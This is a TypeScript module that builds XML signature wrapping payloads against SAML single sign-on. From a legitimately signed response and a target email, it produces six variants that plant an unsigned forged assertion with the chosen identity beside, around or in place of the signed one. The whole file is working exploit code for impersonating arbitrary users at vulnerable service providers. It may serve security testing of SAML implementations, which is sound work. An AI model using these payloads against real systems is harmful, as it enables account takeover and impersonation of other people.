/**
 * XML signature wrapping: a response signed for one person, rearranged so that a careless
 * service provider checks the signature on one assertion and reads the person from another.
 * Each takes the signed response's XML and the email the attacker wants to become.
 */
const assertionPattern = /<saml:Assertion\b[\s\S]*<\/saml:Assertion>/;

function signedAssertion(xml: string): string {
  const found = assertionPattern.exec(xml)?.[0];
  if (!found) throw new Error('no assertion in the response');
  return found;
}

/** The signed assertion, unsigned, naming the attacker's choice, under the given ID. */
function evilCopy(xml: string, email: string, id?: string): string {
  const copy = signedAssertion(xml)
    .replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/, '')
    .replace(/(<saml:NameID\b[^>]*>)[^<]*(<\/saml:NameID>)/, `$1${email}$2`);
  return id ? copy.replace(/(<saml:Assertion\b[^>]*\bID=")[^"]+"/, `$1${id}"`) : copy;
}

const idOf = (xml: string) => /<saml:Assertion\b[^>]*\bID="([^"]+)"/.exec(xml)?.[1] ?? '';
const replaceAssertion = (xml: string, by: string) => xml.replace(assertionPattern, () => by);

export const signatureWrappings: Record<string, (xml: string, email: string) => string> = {
  'XSW: NameID changed inside the signed assertion': (xml, email) =>
    xml.replace(/(<saml:NameID\b[^>]*>)[^<]*(<\/saml:NameID>)/, `$1${email}$2`),
  'XSW: unsigned evil assertion before the signed one': (xml, email) =>
    replaceAssertion(xml, evilCopy(xml, email, '_evil1') + signedAssertion(xml)),
  'XSW: unsigned evil assertion after the signed one': (xml, email) =>
    replaceAssertion(xml, signedAssertion(xml) + evilCopy(xml, email, '_evil2')),
  "XSW: evil assertion first, carrying the signed one's ID": (xml, email) =>
    replaceAssertion(xml, evilCopy(xml, email, idOf(xml)) + signedAssertion(xml)),
  'XSW: signed assertion moved into Extensions, evil one in its place': (xml, email) =>
    replaceAssertion(xml, evilCopy(xml, email, idOf(xml))).replace(
      /(<samlp:Status>)/,
      () => `<samlp:Extensions>${signedAssertion(xml)}</samlp:Extensions><samlp:Status>`,
    ),
  'XSW: signed assertion nested inside the evil one': (xml, email) =>
    replaceAssertion(
      xml,
      evilCopy(xml, email, '_evil3').replace(
        /<\/saml:Assertion>$/,
        () => `${signedAssertion(xml)}</saml:Assertion>`,
      ),
    ),
};
